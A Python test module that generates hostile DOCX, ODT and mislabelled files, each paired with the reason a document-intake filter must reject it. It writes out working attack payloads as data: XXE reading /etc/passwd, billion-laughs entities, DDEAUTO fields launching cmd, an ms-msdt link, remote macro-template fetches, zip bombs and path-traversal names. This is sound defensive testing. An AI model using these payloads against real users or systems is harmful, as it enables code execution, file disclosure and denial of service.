"""Hostile DOCX and ODT files, and files of other kinds, each with the one reason for which it must be refused."""

import zipfile
from collections.abc import Callable, Iterator
from io import BytesIO

from cissapp.evidence.intake.kinds import EICAR
from cissapp.evidence.intake.reasons import Reason
from tests.evidence.intake.packages import (
    ODF, ODT, PNG, SPACES, WORD, Entry, begin, by_hand, content, document, docx, end, field, manifest, odt,
    open_files, piece, related, relationships, types, word_files, zipped,
)  # fmt: skip
from tests.evidence.intake.pdfs import drawn

Make = Callable[[], bytes]
Case = tuple[str, str, Make, Reason]
XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = "<!DOCTYPE a [" + '<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9)
) + "]>"  # fmt: skip
PROGRAM = b"MZ" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def cases() -> Iterator[Case]:
    for name, make, reason in (
        *word_active(),
        *word_outside(),
        *word_odd(),
        *zip_tricks(),
        *xml_tricks(),
    ):
        yield f"docx-{name}", "policy.docx", make, reason
    for name, make, reason in open_documents():
        yield f"odt-{name}", "policy.odt", make, reason
    yield from other_kinds()


def kind_of_part(name: str, kind: str) -> str:
    return f'<Override PartName="/{name}" ContentType="{kind}"/>'


def main_kind(kind: str) -> bytes:
    return zipped(word_files() | {"[Content_Types].xml": types(kind)})


def word_active() -> Iterator[tuple[str, Make, Reason]]:
    macro = Reason.MACRO
    yield (
        "macro",
        lambda: docx(
            more={"word/vbaProject.bin": OLE},
            kinds=kind_of_part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
        ),
        macro,
    )
    yield (
        "macro-renamed",
        lambda: docx(
            more={"word/data.bin": OLE},
            kinds=kind_of_part("word/data.bin", "application/vnd.ms-office.vbaProject"),
        ),
        macro,
    )
    yield "macro-relationship", lambda: related("vbaProject", "x.xml", "Internal"), macro
    yield (
        "macro-type",
        lambda: main_kind("application/vnd.ms-word.document.macroEnabled.main+xml"),
        macro,
    )
    yield (
        "macro-template",
        lambda: main_kind("application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
        macro,
    )
    yield "template", lambda: main_kind(f"{WORD}.template.main+xml"), Reason.TEMPLATE
    yield (
        "object",
        lambda: docx(
            more={"word/embeddings/oleObject1.bin": OLE},
            kinds=kind_of_part(
                "word/embeddings/oleObject1.bin",
                "application/vnd.openxmlformats-officedocument.oleObject",
            ),
        ),
        Reason.EMBEDDED,
    )
    yield "object-renamed", lambda: docx(more={"word/media/a.png": OLE}), Reason.EMBEDDED
    yield "object-element", lambda: docx("<w:p><w:r><w:object/></w:r></w:p>"), Reason.EMBEDDED
    yield (
        "object-other-prefix",
        lambda: docx('<o:OLEObject Type="Link" ProgID="Word.Document"/>'),
        Reason.EMBEDDED,
    )
    yield (
        "workbook",
        lambda: docx(more={"word/embeddings/book.xlsx": zipped({"a": b"b"})}),
        Reason.EMBEDDED,
    )
    yield (
        "chunk-html",
        lambda: docx(
            '<w:altChunk r:id="rId1"/>',
            more={"word/chunk.htm": b"<html/>"},
            kinds=kind_of_part("word/chunk.htm", "text/html"),
        ),
        Reason.EMBEDDED,
    )
    yield "chunk-relationship", lambda: related("aFChunk", "chunk.xml", "Internal"), Reason.EMBEDDED
    yield "activex", lambda: docx(more={"word/activeX/activeX1.xml": b"<a/>"}), Reason.ACTIVEX
    yield (
        "activex-element",
        lambda: docx('<w:p><w:r><w:control r:id="rId1"/></w:r></w:p>'),
        Reason.ACTIVEX,
    )
    yield (
        "activex-type",
        lambda: docx(
            more={"word/a.xml": b"<a/>"},
            kinds=kind_of_part("word/a.xml", "application/vnd.ms-office.activeX+xml"),
        ),
        Reason.ACTIVEX,
    )
    yield (
        "own-buttons",
        lambda: docx(more={"customUI/customUI14.xml": b"<customUI/>"}),
        Reason.ADD_IN,
    )
    yield "own-buttons-renamed", lambda: docx(more={"word/a.xml": b"<customUI/>"}), Reason.ADD_IN
    yield (
        "add-in",
        lambda: docx(
            more={"word/a.xml": b"<a/>"},
            kinds=kind_of_part("word/a.xml", "application/vnd.ms-office.webextension+xml"),
        ),
        Reason.ADD_IN,
    )
    yield (
        "web-film",
        lambda: docx('<w:p><x:webVideoPr embeddedHtml="&lt;iframe/&gt;"/></w:p>'),
        Reason.FILM,
    )
    yield "film", lambda: docx(more={"word/media/a.png": b"\0\0\0\x18ftypmp42"}), Reason.FILM
    yield "program-as-picture", lambda: docx(more={"word/media/a.png": PROGRAM}), Reason.EMBEDDED
    yield "eicar", lambda: docx(more={"word/media/a.png": EICAR}), Reason.VIRUS
    yield "program", lambda: docx(more={"word/a.exe": PROGRAM}), Reason.EMBEDDED
    yield "unknown-part", lambda: docx(more={"word/a.dat": b"some data"}), Reason.FOREIGN_PART
    yield "no-picture", lambda: docx(more={"word/media/a.png": b"no picture"}), Reason.FOREIGN_PART
    yield (
        "java",
        lambda: docx(more={"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0"}),
        Reason.FOREIGN_PART,
    )
    yield "svg-script", lambda: svg("<script>alert(1)</script>"), Reason.SCRIPT
    yield "svg-handler", lambda: svg('<g onload="alert(1)"/>'), Reason.SCRIPT
    yield (
        "svg-outside",
        lambda: svg('<image href="https://example.org/a.png"/>'),
        Reason.OUTSIDE_CONTENT,
    )
    yield (
        "svg-style",
        lambda: svg("<style>@import 'https://example.org/a.css';</style>"),
        Reason.OUTSIDE_CONTENT,
    )


def svg(inner: str) -> bytes:
    data = f'<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>'.encode()
    return docx(
        more={"word/media/a.svg": data}, kinds=kind_of_part("word/media/a.svg", "image/svg+xml")
    )


def word_outside() -> Iterator[tuple[str, Make, Reason]]:
    out, fields = Reason.OUTSIDE_CONTENT, Reason.FIELD
    for name, target in {
        "script": "javascript:alert(1)", "file": "file:///C:/a.exe", "share": "\\\\host\\share\\a", "smb": "smb://host/a",
        "msdt": "ms-msdt:/id PCWDiagnostic", "search": "search-ms:query=a", "relative": "..\\a.docm", "no-scheme": "//host/a",
        "office": "ms-word:ofe|u|http://host/a.docm", "data": "data:text/html,a", "vbs": "vbscript:a", "dav": "webdav://host/a",
    }.items():  # fmt: skip
        yield f"link-{name}", lambda target=target: related("hyperlink", target), Reason.LINK
    yield "picture-web", lambda: related("image", "https://example.org/a.png"), out
    yield "picture-share", lambda: related("image", "\\\\host\\a.png"), out
    yield "picture-file", lambda: related("image", "file:///c:/a.png"), out
    yield (
        "mode-in-other-letters",
        lambda: related("image", "https://example.org/a.png", "eXternal"),
        out,
    )
    yield (
        "inside-but-address",
        lambda: related("image", "https://example.org/a.png", "Internal"),
        out,
    )
    yield "inside-but-above", lambda: related("image", "../../a.png", "Internal"), out
    yield (
        "font",
        lambda: docx(
            more={
                "word/_rels/fontTable.xml.rels": relationships(
                    ("font", "http://host/a.odttf", "External")
                )
            }
        ),
        out,
    )
    yield "object", lambda: related("oleObject", "https://example.org/a.html!"), Reason.EMBEDDED
    for name, target in {
        "web": "https://example.org/a.dotm",
        "share": "\\\\host\\a.dotm",
        "file": "file:///c:/a.dotm",
    }.items():
        yield (
            f"template-{name}",
            lambda target=target: docx(
                more={
                    "word/_rels/settings.xml.rels": relationships(
                        ("attachedTemplate", target, "External")
                    )
                }
            ),
            Reason.OUTSIDE_TEMPLATE,
        )
    yield (
        "template-element",
        lambda: docx('<w:attachedTemplate r:id="rId1"/>'),
        Reason.OUTSIDE_TEMPLATE,
    )
    yield "part-document", lambda: related("subDocument", "a.docx"), out
    yield "frame", lambda: related("frame", "https://example.org/"), out
    yield "stylesheet-on-saving", lambda: related("transform", "https://example.org/a.xsl"), out
    yield (
        "serial-letter",
        lambda: related("mailMergeSource", "file:///c:/a.csv"),
        Reason.DATA_SOURCE,
    )
    yield "serial-letter-element", lambda: docx("<w:mailMerge/>"), Reason.DATA_SOURCE
    yield (
        "drawing-outside",
        lambda: docx('<w:p><v:imagedata src="https://example.org/a.png"/></w:p>'),
        out,
    )
    yield "drawing-share", lambda: docx('<w:p><v:fill src="\\\\host\\a.png"/></w:p>'), out
    yield (
        "drawing-link",
        lambda: docx('<w:p><v:shape href="javascript:alert(1)"/></w:p>'),
        Reason.LINK,
    )
    yield (
        "base-of-links",
        lambda: docx(
            more={"docProps/app.xml": b"<P><HyperlinkBase>\\\\host\\a</HyperlinkBase></P>"}
        ),
        Reason.LINK,
    )
    yield "dde", lambda: field('DDE "cmd" "/c calc"'), fields
    yield (
        "ddeauto",
        lambda: field(' ddeauto c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"'),
        fields,
    )
    yield (
        "ddeauto-in-pieces",
        lambda: docx(
            f"<w:p>{begin()}{piece('DD')}</w:p><w:p>{piece('EAU')}{piece('TO cmd')}{end()}</w:p>"
        ),
        fields,
    )
    yield "ddeauto-simple", lambda: docx('<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'), fields
    yield (
        "ddeauto-within",
        lambda: docx(
            f"<w:p>{begin()}{piece('IF 1=1 ')}{begin()}{piece('DDEAUTO a')}{end()}{end()}</w:p>"
        ),
        fields,
    )
    yield (
        "dde-spelled",
        lambda: docx(
            f"<w:p>{begin()}{begin()}{piece('QUOTE 68 68 69 65 85 84 79')}{end()}{piece(' cmd')}{end()}</w:p>"
        ),
        fields,
    )
    yield "ddeauto-open", lambda: docx(f"<w:p>{begin()}{piece('DDEAUTO cmd')}</w:p>"), fields
    yield "ddeauto-loose", lambda: docx(f"<w:p>{piece('DDEAUTO cmd')}</w:p>"), fields
    yield (
        "ddeauto-in-header",
        lambda: docx(
            more={"word/header1.xml": document(f"<w:p>{begin()}{piece('DDEAUTO a')}{end()}</w:p>")}
        ),
        fields,
    )
    yield "ddeauto-invisible", lambda: field("DD\u200bEAUTO cmd"), fields
    for code in ("INCLUDEPICTURE https://example.org/a.png", 'INCLUDETEXT "\\\\\\\\host\\\\a"', "LINK Excel.Sheet a.xls", "IMPORT a", "EMBED a",
                 "DATABASE a", "RD a.docx", "PRINT 27", "MACROBUTTON AutoRun click"):  # fmt: skip
        yield f"field-{code.split()[0].lower()}", lambda code=code: field(code), fields
    yield "field-link", lambda: field('HYPERLINK "file:///c:/a.exe"'), Reason.LINK
    yield (
        "field-link-after-switch",
        lambda: field('HYPERLINK \\o "tip" "javascript:a"'),
        Reason.LINK,
    )


def word_odd() -> Iterator[tuple[str, Make, Reason]]:
    damaged = Reason.ZIP_DAMAGED
    yield (
        "no-types",
        lambda: zipped({name: data for name, data in word_files().items() if name[0] != "["}),
        Reason.ARCHIVE,
    )
    yield (
        "no-relationships",
        lambda: zipped({name: data for name, data in word_files().items() if "rels" not in name}),
        damaged,
    )
    yield (
        "no-document",
        lambda: zipped(
            {name: data for name, data in word_files().items() if "document" not in name}
        ),
        damaged,
    )
    yield (
        "two-documents",
        lambda: docx(
            more={
                "_rels/.rels": relationships(
                    ("officeDocument", "word/document.xml", "Internal"),
                    ("officeDocument", "word/other.xml", "Internal"),
                )
            }
        ),
        damaged,
    )
    yield (
        "two-types",
        lambda: docx(kinds=kind_of_part("word/document.xml", "application/xml")),
        Reason.ZIP_LIES,
    )
    yield (
        "spreadsheet",
        lambda: main_kind(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        ),
        Reason.SPREADSHEET,
    )
    yield (
        "presentation",
        lambda: main_kind(
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
        ),
        Reason.PRESENTATION,
    )
    yield "both", lambda: zipped(open_files() | word_files()), Reason.TWO_KINDS
    yield (
        "huge-picture",
        lambda: docx(more={"word/media/a.png": PNG[:16] + b"\0\0\xff\xff" * 2 + PNG[24:]}),
        Reason.HUGE_PICTURE,
    )
    yield (
        "huge-gif",
        lambda: docx(more={"word/media/a.png": b"GIF89a\xff\xff\xff\xff\0\0\0"}),
        Reason.HUGE_PICTURE,
    )


def zip_tricks() -> Iterator[tuple[str, Make, Reason]]:
    bad_name, lies, junk = Reason.ZIP_MEMBER_NAME, Reason.ZIP_LIES, Reason.ZIP_JUNK
    for name in ("../a.xml", "/a.xml", "word\\a.xml", "C:a.xml", "word/../a.xml", "word/./a.xml", "word//a.xml", "a\x01.xml",
                 "a\u202e.xml", "%2e%2e/a.xml", "a.xml ", "a.", "x" * 300 + ".xml"):  # fmt: skip
        yield f"name-{name[:12]!r}", lambda name=name: docx(more={name: b"<a/>"}), bad_name
    yield "name-nul", lambda: by_hand([Entry(b"a\0.xml", b"<a/>")]), bad_name
    yield "name-no-text", lambda: by_hand([Entry(b"\xff\xfe.xml", b"<a/>")]), bad_name
    yield "twice", lambda: by_hand([Entry(b"word/document.xml", document())]), Reason.ZIP_TWICE
    yield (
        "twice-in-capitals",
        lambda: docx(more={"WORD/Document.xml": document()}),
        Reason.ZIP_TWICE,
    )
    yield "file-and-folder", lambda: docx(more={"word": b"<a/>"}), Reason.ZIP_TWICE
    yield (
        "symlink",
        lambda: by_hand([Entry(b"word/a.xml", b"/etc/passwd", mode=0o120777)]),
        Reason.ZIP_SPECIAL,
    )
    yield "device", lambda: by_hand([Entry(b"word/a.xml", b"", mode=0o020666)]), Reason.ZIP_SPECIAL
    yield "locked", lambda: by_hand([Entry(b"word/a.xml", b"<a/>", flags=1)]), Reason.ZIP_LOCKED
    yield (
        "strongly-locked",
        lambda: by_hand([Entry(b"word/a.xml", b"<a/>", flags=0x41)]),
        Reason.ZIP_LOCKED,
    )
    for name, method in {"bzip2": zipfile.ZIP_BZIP2, "lzma": zipfile.ZIP_LZMA}.items():
        yield (
            f"packed-{name}",
            lambda method=method: zipped(word_files(), method),
            Reason.ZIP_METHOD,
        )
    yield (
        "packed-99",
        lambda: by_hand([Entry(b"word/a.xml", b"<a/>", method=99)]),
        Reason.ZIP_METHOD,
    )
    yield (
        "other-method-inside",
        lambda: by_hand([Entry(b"word/a.xml", b"<a/>", local_method=8)]),
        lies,
    )
    yield (
        "other-name-inside",
        lambda: by_hand([Entry(b"word/a.xml", b"<a/>", local_name=b"word/b.xml")]),
        lies,
    )
    yield "other-size-inside", lambda: by_hand([Entry(b"word/a.xml", b"<a/>", local_size=9)]), lies
    yield "other-sum-inside", lambda: by_hand([Entry(b"word/a.xml", b"<a/>", local_crc=9)]), lies
    yield "wrong-size", lambda: by_hand([Entry(b"word/a.xml", b"<a/>", size=9)]), lies
    yield "wrong-sum", lambda: by_hand([Entry(b"word/a.xml", b"<a/>", crc=9)]), Reason.ZIP_DAMAGED
    yield "overlap", lambda: by_hand([Entry(b"word/a.xml", b"<a/>", at=0)]), lies
    yield "before", lambda: b"PK\x03\x04junk" + docx(), junk
    yield "before-counted", lambda: by_hand([], before=b"PK\x03\x04 junk that no list names"), junk
    yield "picture-before", lambda: b"GIF89a" + docx(), Reason.PICTURE
    yield (
        "between",
        lambda: by_hand([], gap=b"junk that no list names, long enough to hide in"),
        junk,
    )
    yield "after", lambda: docx() + b"junk", junk
    yield "comment", with_comment, junk
    yield "cut-off", lambda: docx()[:-40], Reason.ZIP_DAMAGED
    yield "flipped", lambda: flipped(docx()), Reason.ZIP_DAMAGED
    yield (
        "many-members",
        lambda: docx(more={f"word/{number}.xml": b"<a/>" for number in range(2_001)}),
        Reason.TOO_MANY_PARTS,
    )
    yield "bomb", lambda: docx(more={"word/a.xml": bytes(300_000_000)}), Reason.UNPACKS_HUGE
    yield "small-bomb", lambda: docx(more={"word/a.xml": bytes(9_000_000)}), Reason.UNPACKS_HUGE
    yield (
        "many-bombs",
        lambda: docx(
            more={f"word/{number}.xml": b"<a>" + b" " * 990_000 + b"</a>" for number in range(60)}
        ),
        Reason.UNPACKS_HUGE,
    )
    yield "bomb-that-lies", lambda: lying_bomb(), lies
    yield "zip-in-zip", lambda: docx(more={"word/a.zip": docx()}), Reason.EMBEDDED
    yield "empty-zip", lambda: zipped({}), Reason.ARCHIVE
    yield "just-a-zip", lambda: zipped({"policy.txt": b"policy"}), Reason.ARCHIVE


def with_comment() -> bytes:
    out = BytesIO(docx())
    with zipfile.ZipFile(out, "a") as package:
        package.comment = b"<script>alert(1)</script>"
    return out.getvalue()


def flipped(data: bytes) -> bytes:
    at = data.index(b"word/document.xml") + 60
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


def lying_bomb() -> bytes:
    """Make a bomb whose headers, both of them, say that it is small."""
    data = docx(more={"word/a.xml": bytes(900_000)})
    return data.replace((900_000).to_bytes(4, "little"), (9_000).to_bytes(4, "little"))


def xml_tricks() -> Iterator[tuple[str, Make, Reason]]:
    dtd, damaged, letters = Reason.DTD, Reason.XML_DAMAGED, Reason.XML_ENCODING
    yield "xxe", lambda: docx(head=XXE), dtd
    yield "laughs", lambda: docx(head=LAUGHS), dtd
    yield "dtd-empty", lambda: docx(head="<!DOCTYPE w>"), dtd
    yield "dtd-outside", lambda: docx(head='<!DOCTYPE w SYSTEM "http://127.0.0.1:9/a.dtd">'), dtd
    yield (
        "parameter-entity",
        lambda: docx(head='<!DOCTYPE w [<!ENTITY % a SYSTEM "http://127.0.0.1:9/"> %a;]>'),
        dtd,
    )
    yield (
        "xxe-in-properties",
        lambda: docx(more={"docProps/core.xml": (XXE + "<a>&x;</a>").encode()}),
        dtd,
    )
    yield (
        "xxe-in-data",
        lambda: docx(more={"customXml/item1.xml": (XXE + "<a>&x;</a>").encode()}),
        dtd,
    )
    yield (
        "xxe-in-types",
        lambda: zipped(
            word_files()
            | {"[Content_Types].xml": types().replace(b"<Types", XXE.encode() + b"<Types")}
        ),
        dtd,
    )
    yield (
        "xxe-in-relationships",
        lambda: docx(
            more={
                "word/_rels/document.xml.rels": relationships().replace(
                    b"<Rel", XXE.encode() + b"<Rel", 1
                )
            }
        ),
        dtd,
    )
    yield (
        "xxe-utf-16",
        lambda: docx(
            more={
                "word/a.xml": (
                    '<?xml version="1.0" encoding="UTF-16"?>' + XXE + "<a>&x;</a>"
                ).encode("utf-16")
            }
        ),
        dtd,
    )
    yield (
        "xxe-utf-7",
        lambda: docx(
            more={"word/a.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'}
        ),
        letters,
    )
    yield "utf-32", lambda: docx(more={"word/a.xml": "<a/>".encode("utf-32")}), letters
    yield (
        "latin",
        lambda: docx(more={"word/a.xml": b'<?xml version="1.0" encoding="ISO-8859-1"?><a/>'}),
        letters,
    )
    yield "not-closed", lambda: docx(more={"word/a.xml": b"<a>"}), damaged
    yield "no-xml", lambda: docx(more={"word/a.xml": b"no XML"}), damaged
    yield "empty-xml", lambda: docx(more={"word/a.xml": b""}), damaged
    yield (
        "stylesheet",
        lambda: docx(head='<?xml-stylesheet href="https://example.org/a.xsl" type="text/xsl"?>'),
        Reason.STYLESHEET,
    )
    yield (
        "deep",
        lambda: docx(more={"word/a.xml": b"<a>" * 20_000 + b"</a>" * 20_000}),
        Reason.NESTED_TOO_DEEP,
    )


def open_kind(kind: str) -> bytes:
    return zipped(
        open_files() | {"mimetype": kind.encode(), "META-INF/manifest.xml": manifest(kind)}
    )


def open_documents() -> Iterator[tuple[str, Make, Reason]]:
    macro, inside, out = Reason.MACRO, Reason.EMBEDDED, Reason.OUTSIDE_CONTENT
    yield "basic", lambda: odt(more={"Basic/Standard/Module1.xml": b"<a/>"}), macro
    yield "python", lambda: odt(more={"Scripts/python/a.py": b"import os"}), macro
    yield "dialogs", lambda: odt(more={"Dialogs/Standard/a.xml": b"<a/>"}), macro
    yield "signed-macros", lambda: odt(more={"META-INF/macrosignatures.xml": b"<a/>"}), macro
    yield (
        "listener",
        lambda: odt(
            before=(
                "<office:scripts><office:event-listeners><script:event-listener script:event-name='dom:load' "
                "xlink:href='vnd.sun.star.script:a'/></office:event-listeners></office:scripts>"
            )
        ),
        macro,
    )
    yield (
        "script",
        lambda: odt(before="<office:scripts><office:script>a</office:script></office:scripts>"),
        macro,
    )
    yield (
        "script-field",
        lambda: odt("<text:p><text:script script:language='JavaScript'>a</text:script></text:p>"),
        macro,
    )
    yield "macro-field", lambda: odt("<text:p><text:execute-macro text:name='a'/></text:p>"), macro
    yield (
        "macro-link",
        lambda: odt("<text:p><text:a xlink:href='vnd.sun.star.script:a.py$b'>a</text:a></text:p>"),
        macro,
    )
    yield (
        "macro-address",
        lambda: odt("<text:p><text:a xlink:href='macro:///Standard.a'>a</text:a></text:p>"),
        macro,
    )
    yield (
        "macro-key",
        lambda: odt(
            more={"Configurations2/accelerator/current.xml": b"<a b='vnd.sun.star.script:a'/>"}
        ),
        macro,
    )
    yield "object", lambda: odt(more={"Object 1": OLE}), inside
    yield "object-folder", lambda: odt(more={"Object 1/content.xml": content()}), inside
    yield (
        "object-element",
        lambda: odt("<draw:frame><draw:object-ole xlink:href='./a'/></draw:frame>"),
        inside,
    )
    yield (
        "formula-or-chart",
        lambda: odt("<draw:frame><draw:object xlink:href='./Chart'/></draw:frame>"),
        inside,
    )
    yield "java", lambda: odt("<draw:applet xlink:href='a'/>"), inside
    yield "plug-in", lambda: odt("<draw:plugin xlink:href='Media/a.mp4'/>"), Reason.FILM
    yield "versions", lambda: odt(more={"Versions/Version1": b"a"}), inside
    yield "picture-is-program", lambda: odt(more={"Pictures/a.png": PROGRAM}), inside
    yield "picture-is-pdf", lambda: odt(more={"Pictures/a.pdf": drawn()}), inside
    yield "unknown-part", lambda: odt(more={"notes.txt": b"some text"}), Reason.FOREIGN_PART
    yield "jar", lambda: odt(more={"META-INF/MANIFEST.MF": b"Main-Class: A"}), Reason.FOREIGN_PART
    yield "picture-web", lambda: odt("<draw:image xlink:href='https://example.org/a.png'/>"), out
    yield "picture-share", lambda: odt("<draw:image xlink:href='\\\\host\\a.png'/>"), out
    yield "picture-file", lambda: odt("<draw:image xlink:href='file:///c:/a.png'/>"), out
    yield "picture-above", lambda: odt("<draw:image xlink:href='../a.png'/>"), out
    yield "picture-above-escaped", lambda: odt("<draw:image xlink:href='%2e%2e/a.png'/>"), out
    yield (
        "style-picture",
        lambda: odt(
            more={
                "styles.xml": f"<a {SPACES}><style:background-image xlink:href='http://host/a.png'/></a>".encode()
            }
        ),
        out,
    )
    yield (
        "section",
        lambda: odt(
            "<text:section><text:section-source xlink:href='https://example.org/a.odt'/></text:section>"
        ),
        out,
    )
    yield "frame", lambda: odt("<draw:floating-frame xlink:href='https://example.org/'/>"), out
    yield (
        "reload",
        lambda: odt(
            more={
                "meta.xml": f"<a {SPACES}><meta:auto-reload xlink:href='http://host/'/></a>".encode()
            }
        ),
        out,
    )
    yield "form", lambda: odt("<form:form xlink:href='https://example.org/'/>"), out
    yield (
        "template-tie",
        lambda: odt(
            more={
                "meta.xml": f"<a {SPACES}><meta:template xlink:href='http://host/a.ott'/></a>".encode()
            }
        ),
        Reason.OUTSIDE_TEMPLATE,
    )
    yield (
        "dde",
        lambda: odt(
            "<text:dde-connection-decls><text:dde-connection-decl office:dde-application='cmd'/></text:dde-connection-decls>"
        ),
        Reason.FIELD,
    )
    yield (
        "dde-table",
        lambda: odt("<table:dde-link><office:dde-source/></table:dde-link>"),
        Reason.FIELD,
    )
    yield (
        "database",
        lambda: odt("<text:p><text:database-display text:table-name='a'/></text:p>"),
        Reason.DATA_SOURCE,
    )
    for name, target in {"script": "javascript:a", "file": "file:///etc/passwd", "share": "\\\\host\\a", "relative": "../a.odt",
                         "uno": ".uno:Open", "smb": "smb://host/a"}.items():  # fmt: skip
        reason = macro if name == "script" else Reason.LINK
        yield (
            f"link-{name}",
            lambda target=target: odt(f"<text:p><text:a xlink:href='{target}'>a</text:a></text:p>"),
            reason,
        )
    yield (
        "locked",
        lambda: odt(
            more={
                "META-INF/manifest.xml": manifest(
                    more="<manifest:file-entry manifest:full-path='content.xml'><manifest:encryption-data/></manifest:file-entry>"
                )
            }
        ),
        Reason.ZIP_LOCKED,
    )
    yield "xxe", lambda: odt(more={"meta.xml": (XXE + "<a>&x;</a>").encode()}), Reason.DTD
    yield (
        "xxe-in-list",
        lambda: odt(more={"META-INF/manifest.xml": (XXE + "<a>&x;</a>").encode()}),
        Reason.DTD,
    )
    yield (
        "svg",
        lambda: odt(more={"Pictures/a.svg": b"<svg><script>1</script></svg>"}),
        Reason.SCRIPT,
    )
    yield (
        "other-list",
        lambda: odt(more={"META-INF/manifest.xml": manifest("application/zip")}),
        Reason.ZIP_LIES,
    )
    yield (
        "no-list",
        lambda: zipped({"mimetype": ODT.encode(), "content.xml": content()}),
        Reason.ZIP_DAMAGED,
    )
    yield (
        "no-content",
        lambda: zipped({"mimetype": ODT.encode(), "META-INF/manifest.xml": manifest()}),
        Reason.ZIP_DAMAGED,
    )
    yield "type-not-first", lambda: zipped(dict(reversed(open_files().items()))), Reason.ZIP_DAMAGED
    yield "type-packed", lambda: zipped(open_files(), stored=()), Reason.ZIP_DAMAGED
    yield "template", lambda: open_kind(f"{ODT}-template"), Reason.TEMPLATE
    yield "spreadsheet", lambda: open_kind(ODT.replace("text", "spreadsheet")), Reason.SPREADSHEET
    yield (
        "presentation",
        lambda: open_kind(ODT.replace("text", "presentation")),
        Reason.PRESENTATION,
    )
    yield "drawing", lambda: open_kind(ODT.replace("text", "graphics")), Reason.OTHER_OPENDOCUMENT
    yield "epub", lambda: open_kind("application/epub+zip"), Reason.ARCHIVE
    yield (
        "embedded-by-list",
        lambda: odt(
            more={
                "META-INF/manifest.xml": manifest(
                    more=f"<manifest:file-entry manifest:full-path='A/' manifest:media-type='{ODT.replace('text', 'chart')}'/>"
                )
            }
        ),
        inside,
    )


def other_kinds() -> Iterator[Case]:
    yield "pdf-named-docx", "policy.docx", drawn, Reason.NAME_DISAGREES
    yield "docx-named-pdf", "policy.pdf", docx, Reason.NAME_DISAGREES
    yield "docx-named-odt", "policy.odt", docx, Reason.NAME_DISAGREES
    yield "odt-named-docx", "policy.docx", odt, Reason.NAME_DISAGREES
    for name in (
        "policy.pdf.exe",
        "policy.docm",
        "policy",
        "policy.",
        ".pdf.js",
        "policy.pdf\0.exe",
        "policy\u202efdp.exe",
        "",
        "policy.pdf/a",
    ):
        yield f"name-{name!r}", name, drawn, Reason.NAME
    ole = Reason.OLD_OFFICE
    yield "doc", "policy.doc", lambda: OLE + "WordDocument".encode("utf-16-le"), Reason.OLD_WORD
    yield (
        "doc-named-docx",
        "policy.docx",
        lambda: OLE + "WordDocument".encode("utf-16-le"),
        Reason.OLD_WORD,
    )
    yield (
        "locked-docx",
        "policy.docx",
        lambda: OLE + "EncryptedPackage".encode("utf-16-le"),
        Reason.LOCKED_OFFICE,
    )
    yield "msi", "policy.docx", lambda: OLE, ole
    yield "rtf", "policy.docx", lambda: b"{\\rtf1\\ansi}", Reason.RICH_TEXT
    yield "html", "policy.docx", lambda: b"<html><body>policy</body></html>", Reason.WEB_PAGE
    yield "svg", "policy.pdf", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", Reason.PICTURE
    yield "png", "policy.pdf", lambda: PNG, Reason.PICTURE
    yield "photo", "policy.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(99), Reason.PICTURE
    yield "program", "policy.pdf", lambda: PROGRAM, Reason.PROGRAM
    yield "elf", "policy.pdf", lambda: b"\x7fELF" + bytes(99), Reason.PROGRAM
    yield "shell", "policy.pdf", lambda: b"#!/bin/sh\n", Reason.PROGRAM
    yield "shortcut", "policy.pdf", lambda: b"L\0\0\0\x01\x14\x02" + bytes(99), Reason.PROGRAM
    for name, start in {
        "rar": b"Rar!\x1a\x07",
        "7z": b"7z\xbc\xaf\x27\x1c",
        "gzip": b"\x1f\x8b\x08",
        "xz": b"\xfd7zXZ\0",
        "cab": b"MSCF",
    }.items():
        yield name, "policy.docx", lambda start=start: start + bytes(99), Reason.ARCHIVE
    yield "flat-odt", "policy.odt", content, Reason.UNKNOWN_KIND
    yield "zeros", "policy.pdf", lambda: bytes(5_000), Reason.UNKNOWN_KIND


__all__ = ["ODF", "cases"]
